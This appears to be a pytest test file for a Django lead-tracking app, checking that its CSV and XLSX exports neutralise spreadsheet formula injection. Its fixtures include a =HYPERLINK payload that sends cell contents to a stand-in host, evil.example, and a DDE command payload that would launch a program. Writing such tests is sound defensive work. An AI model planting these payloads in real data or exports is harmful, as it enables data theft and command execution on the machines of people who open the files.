"""Exports never carry a live spreadsheet formula (issue 13, defect 1): the admin's lead export in
CSV and XLSX and /reports/reps.csv write text that starts with = + - @ tab or CR with a leading ',
the OWASP way; what was posted is stored as sent."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth.models import Group

from leadops.exports import spreadsheet_safe
from leadops.models import Lead
from leadops.resources import LeadExportResource
from leadops.tests.factories import LeadFactory
from reps.tests.factories import RepFactory, TeamFactory
from routing.tests.factories import AssignmentFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
HOSTILE = [HYPERLINK, "+1+2", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_could_start_a_formula_gets_a_leading_quote(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Ana", "", "a=b", "'=quoted", 42, -3, 1.5, None, "ana@example.com"])
def test_other_values_are_left_alone(value):
    assert spreadsheet_safe(value) == value


def test_a_posted_formula_is_stored_as_sent(api):
    response = api.post("/api/leads/", {"first_name": HYPERLINK, "phone": "+49 89 1234"}, format="json")
    assert response.status_code == 201
    lead = Lead.objects.get(pk=response.json()["id"])
    assert (lead.first_name, lead.phone) == (HYPERLINK, "+49 89 1234")
    assert response.json()["first_name"] == HYPERLINK


def _admin_export(admin_client, file_format: int):
    form = admin_client.get("/admin/leadops/lead/export/").context["form"]
    data = {"format": str(file_format), "resource": "0"}
    data.update({name: "on" for name in form.fields if name.startswith("leadexportresource_")})
    response = admin_client.post("/admin/leadops/lead/export/", data)
    assert response.status_code == 200
    assert not response.get("Content-Type", "").startswith("text/html"), "the export form was shown again"
    return response


def test_the_admin_offers_only_csv_and_xlsx(admin_client):
    form = admin_client.get("/admin/leadops/lead/export/").context["form"]
    assert [label for _, label in form.fields["format"].choices if label != "---"] == ["csv", "xlsx"]
    import_page = admin_client.get("/admin/leadops/lead/import/").content.decode()
    assert 'accept=".csv,.xlsx"' in import_page and 'name="format"' not in import_page  # the file says its kind


def test_the_admin_csv_export_neutralises_formulas(admin_client):
    LeadFactory(first_name=HYPERLINK, last_name="@SUM(1+1)", company="-2+3", city="\t=1+1", phone="+49 89 1234")
    response = _admin_export(admin_client, 0)
    (row,) = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
    assert row["first_name"] == "'" + HYPERLINK
    assert row["last_name"] == "'@SUM(1+1)" and row["company"] == "'-2+3" and row["city"] == "'\t=1+1"
    assert row["phone"] == "'+49 89 1234"
    assert Lead.objects.get().first_name == HYPERLINK  # the stored value is untouched


def test_the_admin_xlsx_export_holds_no_formula_cell(admin_client):
    LeadFactory(first_name=HYPERLINK, last_name="+1+2", company_size=250)
    response = _admin_export(admin_client, 1)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    headers = [cell.value for cell in sheet[1]]
    cells = dict(zip(headers, sheet[2], strict=True))
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert cells["first_name"].value == "'" + HYPERLINK and cells["first_name"].data_type == "s"
    assert cells["last_name"].value == "'+1+2"
    assert cells["company_size"].value == 250  # numbers stay numbers


def test_an_xlsx_export_of_control_characters_does_not_fail(admin_client):
    LeadFactory(first_name="Ana\x01\x02")
    response = _admin_export(admin_client, 1)
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert "Ana" in [cell.value for cell in sheet[2]][LeadExportResource().get_export_order().index("first_name")]


def test_reps_csv_neutralises_formulas_in_rep_and_team_names(client, django_user_model):
    team = TeamFactory(name="=cmd|' /C calc'!A0")
    rep = RepFactory(name='=HYPERLINK("http://evil.example","x")', email="ana@example.com", team=team)
    AssignmentFactory(rep=rep, lead=LeadFactory(status="assigned", owner=rep))
    manager = django_user_model.objects.create_user("manager", password="pw-12345-long")
    manager.groups.add(Group.objects.get(name="Managers"))
    client.force_login(manager)
    response = client.get("/reports/reps.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    mine = next(r for r in rows if r["rep_email"] == "ana@example.com")
    assert mine["rep_name"] == "'" + rep.name and mine["team"] == "'" + team.name
